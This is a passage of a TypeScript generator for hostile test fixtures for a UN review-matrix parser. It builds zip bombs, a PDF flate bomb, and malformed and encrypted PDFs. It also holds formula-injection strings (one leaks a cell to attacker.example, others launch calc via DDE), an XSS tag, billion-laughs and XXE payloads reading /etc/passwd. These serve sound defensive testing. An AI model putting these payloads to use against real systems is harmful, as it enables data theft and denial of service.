/**
 * Generates `fixtures/bad/`: damaged and hostile inputs, each listed in `fixtures/bad/manifest.json` with
 * the diagnostic codes it must produce and the exit code `upr-matrix parse <file>` must give.
 *
 * Run with `npm run fixtures:bad` (`tsx scripts/make-bad-fixtures.ts`); `--check` regenerates in memory
 * and exits 1 when a file on disk differs. Output is byte-identical from run to run: seeded random bytes,
 * fixed zip times, zips written by the small writer below (it can also write the lies hostile zips tell).
 *
 * Every file is built from scratch here (no other fixture is read), so that it stays valid when the
 * realistic fixtures of scripts/make-fixtures.ts change. See docs/security.md for what each one proves.
 */
import { seededRandom } from "../src/internal/random.js";
import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { Deflate, deflateSync, strToU8, Zlib, zlibSync } from "fflate";

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const OUT = join(ROOT, "fixtures", "bad");
const CHECK = process.argv.includes("--check");
/** No fixture may be larger than this: they are committed. */
const MAX_FIXTURE_BYTES = 400 * 1024;

// ------------------------------------------------------------------------------------------------
// Bytes, text, random numbers
// ------------------------------------------------------------------------------------------------

const rng = seededRandom;

function randomBytes(n: number, seed: number): Uint8Array {
  const r = rng(seed);
  const out = new Uint8Array(n);
  for (let i = 0; i < n; i++) out[i] = Math.floor(r() * 256);
  return out;
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

const utf8 = (s: string) => strToU8(s);

function utf16(s: string, bigEndian: boolean): Uint8Array {
  const out = new Uint8Array(s.length * 2);
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    out[i * 2 + (bigEndian ? 1 : 0)] = c & 0xff;
    out[i * 2 + (bigEndian ? 0 : 1)] = c >> 8;
  }
  return out;
}

const CP1252: Record<string, number> = { "€": 0x80, "‚": 0x82, "„": 0x84, "…": 0x85, "‘": 0x91, "’": 0x92, "“": 0x93, "”": 0x94, "–": 0x96, "—": 0x97, "œ": 0x9c };

function windows1252(s: string): Uint8Array {
  const out: number[] = [];
  for (const ch of s) {
    const c = ch.codePointAt(0)!;
    if (c < 0x80 || (c >= 0xa0 && c <= 0xff)) out.push(c);
    else if (CP1252[ch] !== undefined) out.push(CP1252[ch]!);
    else throw new Error(`"${ch}" is not in Windows-1252`);
  }
  return new Uint8Array(out);
}

function csv(rows: readonly (readonly string[])[], delimiter = ",", eol = "\r\n"): string {
  const q = (v: string) => (/[",;\t\r\n]/.test(v) || v !== v.trim() ? `"${v.replace(/"/g, '""')}"` : v);
  return rows.map((r) => r.map(q).join(delimiter)).join(eol) + eol;
}

const xmlEscape = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

// ------------------------------------------------------------------------------------------------
// A zip writer that can lie: declared sizes, CRCs, entry counts and shared data are all overridable
// ------------------------------------------------------------------------------------------------

let CRC_TABLE: Uint32Array | undefined;
function crc32(data: Uint8Array, crc = 0): number {
  if (!CRC_TABLE) {
    CRC_TABLE = new Uint32Array(256);
    for (let i = 0; i < 256; i++) {
      let c = i;
      for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
      CRC_TABLE[i] = c >>> 0;
    }
  }
  let c = ~crc;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]!) & 0xff]! ^ (c >>> 8);
  return ~c >>> 0;
}

interface ZipInput {
  name: string;
  /** Uncompressed content. */
  data?: Uint8Array;
  /** Already compressed bytes (raw deflate), with the real size and CRC of what they inflate to. */
  raw?: { bytes: Uint8Array; size: number; crc: number };
  /** Stored instead of deflated. */
  store?: boolean;
  /** Point this directory entry at another entry's data (overlapping entries: the "better zip bomb"). */
  sameAs?: string;
  /** Lies the directory tells. */
  declaredSize?: number;
  declaredCrc?: number;
}

const DOS_TIME = (9 << 11) | (0 << 5); // 09:00:00
const DOS_DATE = ((2024 - 1980) << 9) | (1 << 5) | 15; // 2024-01-15

function zip(inputs: readonly ZipInput[], options: { declaredCount?: number } = {}): Uint8Array {
  const locals: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  const placed = new Map<string, { offset: number; method: number; csize: number; size: number; crc: number }>();
  let offset = 0;
  for (const e of inputs) {
    const name = utf8(e.name);
    let at = e.sameAs ? placed.get(e.sameAs) : undefined;
    if (e.sameAs && !at) throw new Error(`sameAs ${e.sameAs} before it`);
    if (!at) {
      let method: number;
      let body: Uint8Array;
      let size: number;
      let crc: number;
      if (e.raw) {
        method = 8;
        body = e.raw.bytes;
        size = e.raw.size;
        crc = e.raw.crc;
      } else {
        const data = e.data ?? new Uint8Array(0);
        method = e.store ? 0 : 8;
        body = e.store ? data : deflateSync(data, { level: 9 });
        size = data.length;
        crc = crc32(data);
      }
      at = { offset, method, csize: body.length, size: e.declaredSize ?? size, crc: e.declaredCrc ?? crc };
      const h = new DataView(new ArrayBuffer(30));
      h.setUint32(0, 0x04034b50, true);
      h.setUint16(4, 20, true);
      h.setUint16(6, 0x0800, true); // UTF-8 names
      h.setUint16(8, method, true);
      h.setUint16(10, DOS_TIME, true);
      h.setUint16(12, DOS_DATE, true);
      h.setUint32(14, at.crc, true);
      h.setUint32(18, at.csize, true);
      h.setUint32(22, at.size, true);
      h.setUint16(26, name.length, true);
      h.setUint16(28, 0, true);
      const local = concat([new Uint8Array(h.buffer), name, body]);
      locals.push(local);
      placed.set(e.name, at);
      offset += local.length;
    } else if (e.declaredSize !== undefined || e.declaredCrc !== undefined) {
      at = { ...at, size: e.declaredSize ?? at.size, crc: e.declaredCrc ?? at.crc };
    }
    const c = new DataView(new ArrayBuffer(46));
    c.setUint32(0, 0x02014b50, true);
    c.setUint16(4, 20, true);
    c.setUint16(6, 20, true);
    c.setUint16(8, 0x0800, true);
    c.setUint16(10, at.method, true);
    c.setUint16(12, DOS_TIME, true);
    c.setUint16(14, DOS_DATE, true);
    c.setUint32(16, at.crc, true);
    c.setUint32(20, at.csize, true);
    c.setUint32(24, at.size, true);
    c.setUint16(28, name.length, true);
    c.setUint32(42, at.offset, true);
    central.push(concat([new Uint8Array(c.buffer), name]));
  }
  const cd = concat(central);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  const count = options.declaredCount ?? inputs.length;
  end.setUint16(8, count, true);
  end.setUint16(10, count, true);
  end.setUint32(12, cd.length, true);
  end.setUint32(16, offset, true);
  return concat([...locals, cd, new Uint8Array(end.buffer)]);
}

/**
 * Raw deflate of `mib` MiB of spaces, built by repeating one byte-aligned block: a few hundred bytes per
 * MiB, the ratio of a real zip bomb, without holding the expanded data.
 */
function spacesKernel(mib: number): { bytes: Uint8Array; size: number; crc: number } {
  const chunk = new Uint8Array(1024 * 1024).fill(0x20);
  const parts: Uint8Array[] = [];
  const d = new Deflate({ level: 9 }, (c) => parts.push(c));
  // CRC of the whole expansion, computed chunk by chunk.
  if (!CRC_TABLE) crc32(new Uint8Array(0));
  let c = ~0;
  for (let i = 0; i < mib; i++) {
    d.push(chunk, i === mib - 1);
    for (let k = 0; k < chunk.length; k++) c = CRC_TABLE![(c ^ 0x20) & 0xff]! ^ (c >>> 8);
  }
  return { bytes: concat(parts), size: mib * 1024 * 1024, crc: ~c >>> 0 };
}

/**
 * Raw deflate of `head`, `unit` repeated `times`, then `tail`, streamed a megabyte at a time: files of a
 * few kilobytes that expand to tens of megabytes, built without holding the expansion.
 */
function repeated(head: string, unit: string, times: number, tail: string): { bytes: Uint8Array; size: number; crc: number } {
  const parts: Uint8Array[] = [];
  const d = new Deflate({ level: 6 }, (c) => parts.push(c));
  let crc = 0;
  let size = 0;
  const push = (data: Uint8Array, final: boolean) => {
    crc = crc32(data, crc);
    size += data.length;
    d.push(data, final);
  };
  push(utf8(head), false);
  const perBlock = Math.max(1, Math.floor((1 << 20) / unit.length));
  const block = utf8(unit.repeat(perBlock));
  for (let left = times; left > 0; left -= perBlock) push(left >= perBlock ? block : utf8(unit.repeat(left)), false);
  push(utf8(tail), true);
  return { bytes: concat(parts), size, crc };
}

// ------------------------------------------------------------------------------------------------
// Minimal Office files
// ------------------------------------------------------------------------------------------------

const W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const DOCX_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const DOCX_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;

const para = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${xmlEscape(text)}</w:t></w:r></w:p>`;
const tcell = (text: string) => `<w:tc>${text.split("\n").map(para).join("") || "<w:p/>"}</w:tc>`;
const table = (rows: readonly (readonly string[])[]) => `<w:tbl>${rows.map((r) => `<w:tr>${r.map(tcell).join("")}</w:tr>`).join("")}</w:tbl>`;
const documentXml = (body: string, prolog = "") => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${prolog}<w:document ${W_NS}><w:body>${body}<w:sectPr/></w:body></w:document>`;

function docx(body: string, extra: ZipInput[] = [], prolog = ""): Uint8Array {
  return zip([{ name: "[Content_Types].xml", data: utf8(DOCX_TYPES) }, { name: "_rels/.rels", data: utf8(DOCX_RELS) }, { name: "word/document.xml", data: utf8(documentXml(body, prolog)) }, ...extra]);
}

const XLSX_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const XLSX_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const XLSX_STYLES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs></styleSheet>`;

interface XlsxSheet {
  name: string;
  state?: "hidden" | "veryHidden";
  /** The XML inside <sheetData>, and what follows it (merges, validations). */
  data: string;
  after?: string;
  /** Text before the root element (a DTD). */
  prolog?: string;
}

function colName(c: number): string {
  let s = "";
  for (let n = c; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

const inlineCell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlEscape(text)}</t></is></c>`;
const rowsXml = (rows: readonly (readonly string[])[], first = 1) =>
  rows.map((r, i) => `<row r="${first + i}">${r.map((v, c) => (v === "" ? "" : inlineCell(`${colName(c + 1)}${first + i}`, v))).join("")}</row>`).join("");

function xlsx(sheets: readonly XlsxSheet[], options: { definedNames?: string; extra?: ZipInput[] } = {}): Uint8Array {
  const book = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${sheets
    .map((s, i) => `<sheet name="${xmlEscape(s.name)}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`)
    .join("")}</sheets>${options.definedNames ?? ""}</workbook>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
    .map((_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`)
    .join("")}<Relationship Id="rId${sheets.length + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`;
  return zip([
    { name: "[Content_Types].xml", data: utf8(XLSX_TYPES) },
    { name: "_rels/.rels", data: utf8(XLSX_RELS) },
    { name: "xl/workbook.xml", data: utf8(book) },
    { name: "xl/_rels/workbook.xml.rels", data: utf8(rels) },
    { name: "xl/styles.xml", data: utf8(XLSX_STYLES) },
    ...sheets.map((s, i) => ({
      name: `xl/worksheets/sheet${i + 1}.xml`,
      data: utf8(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${s.prolog ?? ""}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${s.data}</sheetData>${s.after ?? ""}</worksheet>`),
    })),
    ...(options.extra ?? []),
  ]);
}

/**
 * A minimal OLE compound file (the container of .doc, .xls and password-protected .docx/.xlsx) with the
 * given streams. Streams are padded to 4096 bytes so that they live in regular sectors (no mini stream).
 */
function compoundFile(streams: readonly { name: string; data: Uint8Array }[]): Uint8Array {
  const SECTOR = 512;
  const sorted = [...streams].sort((a, b) => a.name.length - b.name.length || (a.name.toUpperCase() < b.name.toUpperCase() ? -1 : 1));
  const bodies = sorted.map((s) => {
    const size = Math.max(4096, Math.ceil(s.data.length / SECTOR) * SECTOR);
    const b = new Uint8Array(size);
    b.set(s.data);
    return { ...s, body: b, size: s.data.length < 4096 ? 4096 : s.data.length };
  });
  const dirSectors = Math.ceil((bodies.length + 1) / 4);
  let next = 1 + dirSectors; // sector 0 is the FAT
  const starts = bodies.map((b) => {
    const s = next;
    next += b.body.length / SECTOR;
    return s;
  });
  const total = next;
  if (total > 128) throw new Error("compoundFile: one FAT sector only");
  const fat = new DataView(new ArrayBuffer(SECTOR));
  for (let i = 0; i < 128; i++) fat.setUint32(i * 4, 0xffffffff, true);
  fat.setUint32(0, 0xfffffffd, true);
  for (let i = 0; i < dirSectors; i++) fat.setUint32((1 + i) * 4, i === dirSectors - 1 ? 0xfffffffe : 2 + i, true);
  bodies.forEach((b, k) => {
    const n = b.body.length / SECTOR;
    for (let i = 0; i < n; i++) fat.setUint32((starts[k]! + i) * 4, i === n - 1 ? 0xfffffffe : starts[k]! + i + 1, true);
  });
  const dir = new Uint8Array(dirSectors * SECTOR);
  const entry = (index: number, name: string, type: number, child: number, right: number, start: number, size: number) => {
    const v = new DataView(dir.buffer, index * 128, 128);
    for (let i = 0; i < name.length; i++) v.setUint16(i * 2, name.charCodeAt(i), true);
    v.setUint16(64, (name.length + 1) * 2, true);
    v.setUint8(66, type);
    v.setUint8(67, 1); // black
    v.setUint32(68, 0xffffffff, true);
    v.setUint32(72, right, true);
    v.setUint32(76, child, true);
    v.setUint32(116, start, true);
    v.setUint32(120, size, true);
  };
  entry(0, "Root Entry", 5, bodies.length ? 1 : 0xffffffff, 0xffffffff, 0xfffffffe, 0);
  bodies.forEach((b, k) => entry(k + 1, b.name, 2, 0xffffffff, k + 2 <= bodies.length ? k + 2 : 0xffffffff, starts[k]!, b.size));
  const header = new DataView(new ArrayBuffer(SECTOR));
  [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1].forEach((b, i) => header.setUint8(i, b));
  header.setUint16(24, 0x3e, true);
  header.setUint16(26, 3, true);
  header.setUint16(28, 0xfffe, true);
  header.setUint16(30, 9, true);
  header.setUint16(32, 6, true);
  header.setUint32(44, 1, true); // FAT sectors
  header.setUint32(48, 1, true); // first directory sector
  header.setUint32(56, 4096, true);
  header.setUint32(60, 0xfffffffe, true);
  header.setUint32(68, 0xfffffffe, true);
  for (let i = 0; i < 109; i++) header.setUint32(76 + i * 4, i === 0 ? 0 : 0xffffffff, true);
  return concat([new Uint8Array(header.buffer), new Uint8Array(fat.buffer), dir, ...bodies.map((b) => b.body)]);
}

function pdf(text: string): Uint8Array {
  const stream = `BT /F1 12 Tf 72 720 Td (${text.replace(/[()\\]/g, "\\$&")}) Tj ET`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let out = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return utf8(out);
}

// ------------------------------------------------------------------------------------------------
// Content: a small, valid matrix that the hostile variants start from
// ------------------------------------------------------------------------------------------------

const HEADER = ["Recommendation", "Position", "Full list of themes", "Assessment/comments on level of implementation"];
const RECS: string[][] = [
  ["117.1 Ratify the Optional Protocol to the Convention against Torture (Denmark);", "Supported", "A12 Acceptance of international norms", ""],
  ["117.2 Abolish the death penalty (France) (Germany);", "Noted", "D23 Death penalty", ""],
  ["117.3 Strengthen the national human rights institution in line with the Paris Principles (Ghana);", "Supported", "A42 Institutions & policies - General", ""],
  ["117.4 Adopt a national action plan against gender-based violence (Spain);", "Supported", "F12 Discrimination against women", ""],
];
const THEME_ROW = Array(4).fill("Theme: A12 Acceptance of international norms") as string[];
const MATRIX: string[][] = [HEADER, THEME_ROW, ...RECS];
const CSV_HEADER = ["Paragraph", "Recommendation", "Recommending State", "Response"];
const CSV_ROWS: string[][] = [
  ["117.1", "Ratify the Optional Protocol to the Convention against Torture", "Denmark", "Supported"],
  ["117.2", "Abolish the death penalty", "France", "Noted"],
  ["117.3", "Strengthen the national human rights institution in line with the Paris Principles", "Ghana", "Supported"],
];
const INJECTIONS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '<img src=x onerror="alert(1)">'];
const BILLION_LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`;
const XXE = `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "http://attacker.example/upr.dtd">]>`;

// ------------------------------------------------------------------------------------------------
// The corpus
// ------------------------------------------------------------------------------------------------

/** One bad input and what reading it must give. */
interface BadFixture {
  file: string;
  /** What the file is and what it tests. */
  what: string;
  /** Diagnostic codes that must be among those reported. */
  codes: string[];
  /** Exit code of `upr-matrix parse <file>`: 0 read (the awkward input is handled), 1 read with errors, 2 unreadable. */
  exit: 0 | 1 | 2;
  /** At least this many recommendations must be read (rows must not be merged away). */
  minRecommendations?: number;
  /** Exit code with `--strict` when it differs (warnings count as errors). */
  strictExit?: 1;
  /**
   * A fix waiting to be applied in a file this generator's owner may not edit: the tests expect the
   * fixture to fail until then (`library`: the parse result is wrong; `cli`: only the exit code is;
   * `cliOk`: the CLI's exit code and codes are already right, only the data is not).
   */
  pendingFix?: { where: "library" | "cli"; fix: string; cliOk?: true };
  bytes: Uint8Array;
}

const validDocx = docx(table(MATRIX));
const validXlsx = xlsx([{ name: "Matrix", data: rowsXml(MATRIX) }]);

function flipInEntry(bytes: Uint8Array, name: string, at: number): Uint8Array {
  // Flip one byte inside the (stored) data of an entry, found through its local header name.
  const needle = utf8(name);
  for (let i = 0; i + 30 + needle.length < bytes.length; i++) {
    if (bytes[i] === 0x50 && bytes[i + 1] === 0x4b && bytes[i + 2] === 3 && bytes[i + 3] === 4 && needle.every((b, k) => bytes[i + 30 + k] === b)) {
      const out = bytes.slice();
      const start = i + 30 + needle.length + (bytes[i + 28]! | (bytes[i + 29]! << 8));
      out[start + at] = out[start + at]! ^ 0x20;
      return out;
    }
  }
  throw new Error(`no entry ${name}`);
}

// ------------------------------------------------------------------------------------------------
// PDFs: a small Working Group report, then damaged and hostile variants of it
// ------------------------------------------------------------------------------------------------

type PdfObject = string | { dict: string; data: Uint8Array };

/**
 * A PDF from its objects (numbered from 1, the catalog first) with a cross-reference table that is right
 * unless told otherwise (`xrefShift` moves every offset, `startxref` lies about where the table is).
 */
function pdfFrom(objects: readonly PdfObject[], options: { trailer?: string; xrefShift?: number; startxref?: number } = {}): Uint8Array {
  const parts: Uint8Array[] = [utf8("%PDF-1.7\n%\u00e2\u00e3\n")];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(offset);
    const bytes = typeof o === "string" ? utf8(`${i + 1} 0 obj\n${o}\nendobj\n`) : concat([utf8(`${i + 1} 0 obj\n${o.dict.replace("LENGTH", String(o.data.length))}\nstream\n`), o.data, utf8("\nendstream\nendobj\n")]);
    parts.push(bytes);
    offset += bytes.length;
  });
  const xref = offset;
  const shift = options.xrefShift ?? 0;
  parts.push(utf8(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o + shift).padStart(10, "0")} 00000 n \n`).join("")}`));
  parts.push(utf8(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${options.trailer ?? ""} >>\nstartxref\n${options.startxref ?? xref}\n%%EOF\n`));
  return concat(parts);
}

// The text of a one-page report: masthead, introduction, the recommendations section.
const REPORT_LINES: readonly [number, number, number, string][] = [
  [120, 778, 14, "United Nations"], [460, 776, 20, "A/HRC/99/15"],
  [57, 610, 12, "Human Rights Council"], [57, 598, 10, "Ninety-ninth session"],
  [113, 542, 14, "Report of the Working Group on the Universal Periodic Review"], [113, 510, 14, "Slovenia"],
  [113, 470, 10, "1. The Working Group on the Universal Periodic Review held its twentieth session from 27 October to"],
  [113, 458, 10, "7 November 2014. The review of Slovenia was held at the 6th meeting on 4 November 2014."],
  [85, 420, 14, "II. Conclusions and/or recommendations"],
  [113, 395, 10, "115. The recommendations listed below will be examined by Slovenia, which will provide"],
  [113, 383, 10, "responses in due time:"],
  [142, 365, 10, "115.1 Ratify the Optional Protocol to the Convention against Torture (Denmark);"],
  [142, 347, 10, "115.2 Abolish the death penalty in all circumstances (France) (Germany);"],
  [142, 329, 10, "115.3 Strengthen the national human rights institution in line with the Paris Principles (Ghana)."],
  [113, 311, 10, "116. All conclusions and/or recommendations contained in the present report reflect the position"],
  [113, 299, 10, "of the submitting State(s) and/or the State under review."],
];

const pdfText = (s: string) => `(${s.replace(/[()\\]/g, "\\$&")})`;
const reportContent = REPORT_LINES.map(([x, y, size, t]) => `BT /F1 ${size} Tf 1 0 0 1 ${x} ${y} Tm ${pdfText(t)} Tj ET`).join("\n");
const PDF_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /Encoding /WinAnsiEncoding >>";
const pdfPage = (contents: number, parent = 2) => `<< /Type /Page /Parent ${parent} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${contents} 0 R >>`;

/** The report's objects: catalog, pages, font, page, content (the content stream given, or the report's text). */
function reportObjects(content: PdfObject = { dict: "<< /Length LENGTH >>", data: utf8(reportContent) }): PdfObject[] {
  return ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R] /Count 1 >>", PDF_FONT, pdfPage(5), content];
}

/** Deflate (zlib) `n` bytes of spaces without holding them: a stream that inflates to `n` bytes. */
function zlibSpaces(n: number): Uint8Array {
  const chunks: Uint8Array[] = [];
  const z = new Zlib({ level: 9 }, (chunk) => chunks.push(chunk));
  const block = new Uint8Array(1 << 20).fill(0x20);
  for (let left = n; left > 0; left -= block.length) z.push(left > block.length ? block : block.subarray(0, left), left <= block.length);
  return concat(chunks);
}

function pdfFixtures(add: (f: Omit<BadFixture, "bytes"> & { bytes: Uint8Array | string }) => void): void {
  const report = pdfFrom(reportObjects());
  add({ file: "pdf-report.pdf", what: "A small, valid Working Group report (the base of the PDF variants below).", codes: [], exit: 0, bytes: report });
  add({ file: "pdf-broken-xref.pdf", what: "The same report with every cross-reference offset 7 bytes off and startxref pointing into the middle of the file: pdf.js rebuilds the table, the report is read.", codes: [], exit: 0, minRecommendations: 3, bytes: pdfFrom(reportObjects(), { xrefShift: 7, startxref: 100 }) });
  add({ file: "pdf-truncated.pdf", what: "The report cut at 45% of its bytes (an interrupted download): no cross-reference table, no trailer, half a content stream.", codes: ["corrupt-file"], exit: 2, bytes: report.subarray(0, Math.floor(report.length * 0.45)) });
  add({ file: "pdf-garbage.pdf", what: "A PDF header followed by 20 KB of random bytes.", codes: ["corrupt-file"], exit: 2, bytes: concat([utf8("%PDF-1.7\n"), randomBytes(20_000, 1701)]) });
  add({
    file: "pdf-encrypted.pdf",
    what: "The report behind a user password (standard security handler, RC4 40-bit): its text cannot be read without the password.",
    codes: ["encrypted-file"],
    exit: 2,
    bytes: pdfFrom([...reportObjects(), `<< /Filter /Standard /V 1 /R 2 /O <${Buffer.from(randomBytes(32, 11)).toString("hex")}> /U <${Buffer.from(randomBytes(32, 12)).toString("hex")}> /P -44 >>`], { trailer: ` /Encrypt 6 0 R /ID [<${Buffer.from(randomBytes(16, 13)).toString("hex")}> <${Buffer.from(randomBytes(16, 13)).toString("hex")}>]` }),
  });
  add({ file: "pdf-scan.pdf", what: "A page with no text, only a drawing (a scan without OCR looks like this to a text reader).", codes: ["no-text-layer"], exit: 2, bytes: pdfFrom(reportObjects({ dict: "<< /Length LENGTH >>", data: utf8("0.5 g 72 72 451 698 re f 0 g 100 700 m 500 700 l S") })) });
  add({
    file: "pdf-flate-bomb.pdf",
    what: "A content stream compressed twice (/Filter [/FlateDecode /FlateDecode]) that inflates to 256 MiB of spaces from a few hundred bytes: stopped at 64 MiB before pdf.js sees it.",
    codes: ["limit-exceeded"],
    exit: 1,
    bytes: pdfFrom(reportObjects({ dict: "<< /Length LENGTH /Filter [/FlateDecode /FlateDecode] >>", data: zlibSync(zlibSpaces(256 * 1024 * 1024), { level: 9 }) })),
  });
  add({ file: "pdf-deep-nesting.pdf", what: "An object of 50,000 nested arrays (a recursive parser's stack overflows): refused at limits.maxDepth.", codes: ["limit-exceeded"], exit: 1, bytes: pdfFrom([...reportObjects(), `${"[".repeat(50_000)}${"]".repeat(50_000)}`]) });
  add({
    file: "pdf-many-pages.pdf",
    what: "2,050 empty pages, over limits.maxPages (2,000): refused before any page is read.",
    codes: ["limit-exceeded"],
    exit: 1,
    bytes: pdfFrom([
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Kids [${Array.from({ length: 2050 }, (_, i) => `${i + 4} 0 R`).join(" ")}] /Count 2050 >>`,
      PDF_FONT,
      ...Array.from({ length: 2050 }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
    ]),
  });
  add({
    file: "pdf-page-loop.pdf",
    what: "A page tree whose node lists itself among its kids (a cycle): reading stops with one error, no hang.",
    codes: ["corrupt-file"],
    exit: 2,
    bytes: pdfFrom(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 >>", PDF_FONT, pdfPage(5), { dict: "<< /Length LENGTH >>", data: utf8(reportContent) }]),
  });
}

function build(): BadFixture[] {
  const out: BadFixture[] = [];
